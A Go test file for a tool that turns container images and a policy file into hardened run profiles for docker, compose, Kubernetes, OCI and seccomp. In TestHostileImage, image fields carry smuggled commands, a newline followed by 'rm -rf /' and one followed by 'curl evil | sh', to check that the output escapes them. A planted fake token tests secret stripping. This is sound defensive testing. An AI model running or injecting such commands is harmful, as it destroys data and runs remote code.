package profile

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"

	"github.com/charterhq/charter/internal/policy"
)

var update = flag.Bool("update", false, "rewrite the golden files")

func readFile(t *testing.T, name string) []byte {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func loadCharter(t *testing.T, name string) *policy.File {
	t.Helper()
	pf, err := policy.Load(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return pf
}

// posterSource is a web service image: a named non-root user, a port below 1024, a
// volume, an environment with a planted secret, entrypoint and command.
func posterSource(t *testing.T) Source {
	t.Helper()
	return Source{
		Ref: "oci-dir:./build/oci",
		Config: &v1.ConfigFile{Config: v1.Config{
			User:         "app",
			ExposedPorts: map[string]struct{}{"443/tcp": {}, "8080/tcp": {}},
			Volumes:      map[string]struct{}{"/var/lib/poster": {}},
			Env: []string{
				"PATH=/usr/local/bin:/usr/bin:/bin", "POSTER_MODE=batch",
				"API_TOKEN=ghp_R2d2C3poR2d2C3poR2d2C3poR2d2C3poR2d2",
			},
			Entrypoint: []string{"/usr/local/bin/poster"},
			Cmd:        []string{"--config", "/etc/poster.yaml"},
			WorkingDir: "/srv",
		}},
		Passwd: readFile(t, "passwd"),
		Group:  readFile(t, "group"),
	}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", "golden", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil { //nolint:gosec // test fixtures
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (go test -update rewrites it):\n%s", name, got)
	}
}

// TestGolden renders every format for the poster image under its charter, and for a
// root image with no charter at all (every default).
func TestGolden(t *testing.T) {
	cases := []struct {
		name string
		src  Source
		cf   *policy.File
		opts Options
	}{
		{"poster", posterSource(t), loadCharter(t, "charter.yaml"), Options{Arch: "amd64", SeccompDeny: []string{"ptrace", "personality"}}},
		{"defaults", Source{Ref: "docker:busybox:1.36", Config: &v1.ConfigFile{Config: v1.Config{Cmd: []string{"sh"}}}}, nil, Options{Arch: "amd64"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			p, err := Build(c.src, c.cf, c.opts)
			if err != nil {
				t.Fatal(err)
			}
			golden(t, c.name+".docker.sh", []byte(p.Docker("")))
			compose, err := p.Compose("")
			if err != nil {
				t.Fatal(err)
			}
			golden(t, c.name+".compose.yaml", compose)
			k8s, err := p.Kubernetes()
			if err != nil {
				t.Fatal(err)
			}
			golden(t, c.name+".kubernetes.yaml", k8s)
			oci, err := p.OCIJSON()
			if err != nil {
				t.Fatal(err)
			}
			golden(t, c.name+".config.json", oci)
			if len(c.opts.SeccompDeny) > 0 {
				sc, err := p.Seccomp.JSON()
				if err != nil {
					t.Fatal(err)
				}
				golden(t, c.name+".seccomp.json", sc)
			}
		})
	}
}

func TestDefaults(t *testing.T) {
	p, err := Build(Source{Ref: "registry:ghcr.io/acme/api:v3"}, nil, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if p.User != DefaultUser {
		t.Errorf("user = %+v, want %+v", p.User, DefaultUser)
	}
	if !p.ReadOnlyRootFilesystem || !p.NoNewPrivileges {
		t.Error("read-only root and no-new-privileges must always be on")
	}
	if len(p.Tmpfs) != 1 || p.Tmpfs[0].Path != "/tmp" || p.Tmpfs[0].SizeBytes != DefaultTmpfsSize {
		t.Errorf("tmpfs = %+v, want /tmp only", p.Tmpfs)
	}
	if p.Limits != DefaultLimits {
		t.Errorf("limits = %+v, want %+v", p.Limits, DefaultLimits)
	}
	if len(p.CapAdd) != 0 || len(p.Egress) != 0 || !p.NoNetwork() {
		t.Errorf("caps %v, egress %v: want none, and no network", p.CapAdd, p.Egress)
	}
	if p.Image != "ghcr.io/acme/api:v3" || p.Name != "api" {
		t.Errorf("image %q name %q", p.Image, p.Name)
	}
	for _, want := range []string{"no image config, so no USER", "/tmp is the one writable path", "default limits", "connect nowhere"} {
		if !slices.ContainsFunc(p.Notes, func(n string) bool { return strings.Contains(n, want) }) {
			t.Errorf("no note says %q: %q", want, p.Notes)
		}
	}
}

func TestBuildCharter(t *testing.T) {
	p, err := Build(posterSource(t), loadCharter(t, "charter.yaml"), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if p.User.UID != 10001 || p.User.GID != 10001 || p.User.Source != "charter" {
		t.Errorf("user = %+v", p.User)
	}
	paths := []string{}
	for _, tm := range p.Tmpfs {
		paths = append(paths, tm.Path)
	}
	if want := []string{"/tmp", "/var/cache/poster", "/var/lib/poster"}; !slices.Equal(paths, want) {
		t.Errorf("tmpfs %v, want %v", paths, want)
	}
	if p.Limits != (Limits{MemoryBytes: 256 << 20, MilliCPU: 500, Pids: 128}) {
		t.Errorf("limits %+v", p.Limits)
	}
	if !slices.Equal(p.CapAdd, []string{"NET_BIND_SERVICE"}) {
		t.Errorf("caps %v", p.CapAdd)
	}
	if len(p.HostEgress()) != 1 || p.Egress[1].CIDR != "10.0.0.0/8" || p.Egress[2].CIDR != "192.0.2.10/32" {
		t.Errorf("egress %+v", p.Egress)
	}
	for _, kv := range p.Process.Env {
		if strings.HasPrefix(kv, "API_TOKEN=") {
			t.Errorf("the secret reached the OCI env: %s", kv)
		}
	}
	if !slices.Equal(p.Process.Args, []string{"/usr/local/bin/poster", "--config", "/etc/poster.yaml"}) || p.Process.Cwd != "/srv" {
		t.Errorf("process %+v", p.Process)
	}
	if p.Image != "registry.example.com/pr/poster:1.4.2" || p.Name != "poster" {
		t.Errorf("image %q name %q", p.Image, p.Name)
	}
}

func TestBuildErrors(t *testing.T) {
	cases := map[string]string{
		"root user": "version: 1\nruntime: { user: root }\n",
		"uid 0":     "version: 1\nruntime: { user: \"0:0\" }\n",
		"unknown":   "version: 1\nruntime: { user: ghost }\n",
		"slash":     "version: 1\nruntime: { writable: [ / ] }\n",
		"comma":     "version: 1\nruntime: { writable: [ \"/a,b\" ] }\n",
	}
	for name, doc := range cases {
		t.Run(name, func(t *testing.T) {
			pf, err := policy.Parse("charter.yaml", []byte(doc))
			if err != nil {
				t.Fatal(err)
			}
			if _, err := Build(posterSource(t), pf, Options{}); err == nil {
				t.Error("Build accepted it")
			}
		})
	}
	if _, err := Build(posterSource(t), nil, Options{SeccompDeny: []string{"Not A Syscall"}}); err == nil {
		t.Error("a bad syscall name was accepted")
	}
}

// TestHostileImage: an image's VOLUME and USER cannot break the outputs out of their
// comments and quoting.
func TestHostileImage(t *testing.T) {
	src := Source{Ref: "docker:evil", Config: &v1.ConfigFile{Config: v1.Config{
		User:    "x\nrm -rf /",
		Volumes: map[string]struct{}{"/data\ncurl evil | sh": {}, "/ok": {}},
		Cmd:     []string{"run"},
	}}}
	p, err := Build(src, nil, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(p.Docker(""), "\n") {
		if strings.Contains(line, "curl evil") || strings.Contains(line, "rm -rf") {
			if !strings.HasPrefix(line, "#") {
				t.Errorf("image text escaped a comment: %q", line)
			}
		}
	}
	if len(p.Tmpfs) != 2 || p.Tmpfs[1].Path != "/ok" {
		t.Errorf("tmpfs %+v: want /tmp and /ok only", p.Tmpfs)
	}
}

func TestResolveUser(t *testing.T) {
	passwd, group := readFile(t, "passwd"), readFile(t, "group")
	cases := []struct {
		spec     string
		uid, gid int
		name     string
		err      bool
	}{
		{"app", 10001, 10001, "app", false},
		{"app:www", 10001, 33, "app", false},
		{"app:0", 10001, 0, "app", false},
		{"10001", 10001, 10001, "app", false},
		{"4242", 4242, 4242, "", false}, // no entry: gid = uid, never the root group
		{"4242:33", 4242, 33, "", false},
		{"nobody", 65534, 65534, "nobody", false},
		{"ghost", 0, 0, "", true},
		{"app:ghosts", 0, 0, "", true},
		{"4294967295", 0, 0, "", true},
	}
	for _, c := range cases {
		u, err := ResolveUser(c.spec, passwd, group)
		if c.err {
			if err == nil {
				t.Errorf("%s: resolved to %+v, want an error", c.spec, u)
			}
			continue
		}
		if err != nil || u.UID != c.uid || u.GID != c.gid || u.Name != c.name {
			t.Errorf("%s: got %+v %v, want %d:%d %q", c.spec, u, err, c.uid, c.gid, c.name)
		}
	}
}

func TestImageUser(t *testing.T) {
	cases := []struct {
		user   string
		want   User
		source string
	}{
		{"", DefaultUser, "default"},
		{"root", DefaultUser, "default"},
		{"0:0", DefaultUser, "default"},
		{"app", User{UID: 10001, GID: 10001, Name: "app"}, "image"},
		{"ghost", DefaultUser, "default"},
	}
	for _, c := range cases {
		src := posterSource(t)
		src.Config.Config.User = c.user
		p, err := Build(src, nil, Options{})
		if err != nil {
			t.Fatal(err)
		}
		c.want.Source = c.source
		if p.User != c.want {
			t.Errorf("USER %q: got %+v, want %+v", c.user, p.User, c.want)
		}
	}
}

func TestQuantities(t *testing.T) {
	mem := map[string]int64{"256Mi": 256 << 20, "1G": 1e9, "1048576": 1 << 20, "1.5Gi": 3 << 29, "0.5k": 500, "1.0001k": 1001, "2Ei": 2 << 60}
	for s, want := range mem {
		if got, err := ParseMemory(s); err != nil || got != want {
			t.Errorf("ParseMemory(%q) = %d, %v; want %d", s, got, err, want)
		}
	}
	cpu := map[string]int64{"0.5": 500, "2": 2000, "500m": 500, "0.0001": 1, "1.25": 1250}
	for s, want := range cpu {
		if got, err := ParseCPU(s); err != nil || got != want {
			t.Errorf("ParseCPU(%q) = %d, %v; want %d", s, got, err, want)
		}
	}
	for _, bad := range []string{"", "0", "0Mi", "-1", "1Xi", "1.2.3", "9Ei", "1e3", " 1"} {
		if _, err := ParseMemory(bad); err == nil {
			t.Errorf("ParseMemory(%q) accepted", bad)
		}
	}
	if FormatMemory(256<<20) != "256Mi" || FormatMemory(1000) != "1000" || FormatCPU(500) != "500m" || FormatCPU(2000) != "2" {
		t.Error("Format")
	}
	if decimalCPU(500) != "0.5" || decimalCPU(1250) != "1.25" || decimalCPU(3000) != "3" || dockerMemory(64<<20) != "64m" {
		t.Error("docker units")
	}
}

func TestParseEgress(t *testing.T) {
	cases := map[string]Egress{
		"api.example.com:443":   {Host: "api.example.com", Port: 443},
		"*.Example.com:443":     {Host: "*.example.com", Port: 443},
		"10.1.2.3/8:5432":       {CIDR: "10.0.0.0/8", Port: 5432},
		"192.0.2.1:53":          {CIDR: "192.0.2.1/32", Port: 53},
		"[2001:db8::1]:443":     {CIDR: "2001:db8::1/128", Port: 443},
		"[fd00::/8]:53":         {CIDR: "fd00::/8", Port: 53},
		"[::ffff:10.0.0.1]:443": {CIDR: "10.0.0.1/32", Port: 443},
	}
	for s, want := range cases {
		if got, err := ParseEgress(s); err != nil || got != want {
			t.Errorf("ParseEgress(%q) = %+v, %v; want %+v", s, got, err, want)
		}
	}
	for _, bad := range []string{"api.example.com", ":443", "a:0", "a:70000", "10.0.0.0/33:1", "a b:1"} {
		if _, err := ParseEgress(bad); err == nil {
			t.Errorf("ParseEgress(%q) accepted", bad)
		}
	}
}

func TestSeccompDeny(t *testing.T) {
	s := DefaultSeccomp()
	notAllowed, err := s.Deny([]string{"ptrace", "socket", "mount", "nfsservctl"})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(notAllowed, []string{"nfsservctl"}) {
		t.Errorf("notAllowed = %v, want [nfsservctl], which no rule allows", notAllowed)
	}
	for _, r := range s.Syscalls {
		if r.Action == "SCMP_ACT_ALLOW" && (slices.Contains(r.Names, "ptrace") || slices.Contains(r.Names, "socket")) {
			t.Errorf("rule still allows a denied syscall: %+v", r)
		}
	}
	// The denied syscalls are gone from the resolved filter too.
	lsc, err := s.Resolve("amd64", nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, sc := range lsc.Syscalls {
		if slices.Contains(sc.Names, "ptrace") {
			t.Error("ptrace in the resolved filter")
		}
	}
}

// TestSeccompShape: the default profile's well-known facts hold.
func TestSeccompShape(t *testing.T) {
	s := DefaultSeccomp()
	if s.DefaultAction != "SCMP_ACT_ERRNO" || s.DefaultErrnoRet == nil || *s.DefaultErrnoRet != 1 {
		t.Errorf("default action %s %v", s.DefaultAction, s.DefaultErrnoRet)
	}
	names := func(caps []string) []string {
		lsc, err := s.Resolve("amd64", caps)
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, sc := range lsc.Syscalls {
			if sc.Action == "SCMP_ACT_ALLOW" {
				out = append(out, sc.Names...)
			}
		}
		return out
	}
	none, admin := names(nil), names([]string{"CAP_SYS_ADMIN"})
	for _, n := range []string{"read", "write", "execve", "clone", "arch_prctl", "ptrace"} {
		if !slices.Contains(none, n) {
			t.Errorf("%s not allowed by default", n)
		}
	}
	for _, n := range []string{"mount", "bpf", "kexec_load", "reboot", "s390_runtime_instr"} {
		if slices.Contains(none, n) {
			t.Errorf("%s allowed without capabilities", n)
		}
	}
	if !slices.Contains(admin, "mount") || !slices.Contains(admin, "bpf") {
		t.Error("CAP_SYS_ADMIN does not allow mount and bpf")
	}
	if _, err := s.Resolve("vax", nil); err == nil {
		t.Error("unknown architecture accepted")
	}
}

// TestOCISpec: the config.json keeps what the probe checks under runc.
func TestOCISpec(t *testing.T) {
	p, err := Build(posterSource(t), loadCharter(t, "charter.yaml"), Options{Arch: "amd64"})
	if err != nil {
		t.Fatal(err)
	}
	spec, err := p.OCI()
	if err != nil {
		t.Fatal(err)
	}
	if !spec.Root.Readonly || !spec.Process.NoNewPrivileges || spec.Process.User.UID != 10001 {
		t.Error("root, no-new-privileges or user")
	}
	if got := spec.Process.Capabilities.Bounding; !slices.Equal(got, []string{"CAP_NET_BIND_SERVICE"}) {
		t.Errorf("bounding %v", got)
	}
	if *spec.Linux.Resources.Memory.Limit != 256<<20 || *spec.Linux.Resources.CPU.Quota != 50000 || *spec.Linux.Resources.Pids.Limit != 128 {
		t.Error("resources")
	}
	if spec.Linux.Seccomp == nil || len(spec.Linux.Seccomp.Architectures) != 3 {
		t.Errorf("seccomp %+v", spec.Linux.Seccomp)
	}
	for _, ns := range spec.Linux.Namespaces {
		if ns.Path != "" {
			t.Errorf("namespace %s joins %s", ns.Type, ns.Path)
		}
	}
	var tmpfs []string
	for _, m := range spec.Mounts {
		if m.Type == "tmpfs" && slices.Contains(m.Options, "noexec") && !strings.HasPrefix(m.Destination, "/dev") {
			tmpfs = append(tmpfs, m.Destination)
		}
	}
	if !slices.Equal(tmpfs, []string{"/tmp", "/var/cache/poster", "/var/lib/poster"}) {
		t.Errorf("tmpfs mounts %v", tmpfs)
	}
	b, _ := json.Marshal(spec)
	if bytes.Contains(b, []byte("ghp_")) {
		t.Error("the planted token reached config.json")
	}
}

func goArch() string { return runtime.GOARCH }

// TestCharterSeccomp: runtime.seccomp.deny narrows the profile like --seccomp-deny, and
// the two lists add up.
func TestCharterSeccomp(t *testing.T) {
	pf, err := policy.Parse("charter.yaml", []byte("version: 1\nruntime:\n  seccomp: { deny: [ ptrace, personality ] }\n"))
	if err != nil {
		t.Fatal(err)
	}
	p, err := Build(Source{Ref: "docker:x"}, pf, Options{SeccompDeny: []string{"ptrace", "getpriority"}})
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(p.SeccompDeny, []string{"ptrace", "personality", "getpriority"}) {
		t.Errorf("deny %v", p.SeccompDeny)
	}
	if !strings.Contains(p.Docker(""), "--security-opt seccomp=seccomp.json") {
		t.Error("the docker output does not load the narrowed profile")
	}
	if _, err := policy.Parse("charter.yaml", []byte("version: 1\nruntime:\n  seccomp: { deny: [ Ptrace ] }\n")); err == nil {
		t.Error("the charter accepted a bad syscall name")
	}
}

// TestArchFromImage: the OCI spec's seccomp filter is for the image's architecture.
func TestArchFromImage(t *testing.T) {
	src := Source{Ref: "docker:x", Config: &v1.ConfigFile{Architecture: "arm64", Config: v1.Config{Cmd: []string{"/x"}}}}
	p, err := Build(src, nil, Options{})
	if err != nil {
		t.Fatal(err)
	}
	spec, err := p.OCI()
	if err != nil {
		t.Fatal(err)
	}
	if a := spec.Linux.Seccomp.Architectures; len(a) != 2 || a[0] != "SCMP_ARCH_AARCH64" {
		t.Errorf("architectures %v", a)
	}
}

// TestDigestPin: a source with a digest is run by digest.
func TestDigestPin(t *testing.T) {
	d := "sha256:" + strings.Repeat("ab", 32)
	for ref, want := range map[string]string{
		"registry:ghcr.io/acme/api:v3":   "ghcr.io/acme/api:v3@" + d,
		"registry:ghcr.io/acme/api@" + d: "ghcr.io/acme/api@" + d,
		"oci-dir:./build/oci":            Placeholder,
	} {
		p, err := Build(Source{Ref: ref, Digest: d}, nil, Options{})
		if err != nil {
			t.Fatal(err)
		}
		if p.Image != want || p.Name != "api" && want != Placeholder {
			t.Errorf("%s: image %q name %q, want %q", ref, p.Image, p.Name, want)
		}
	}
}
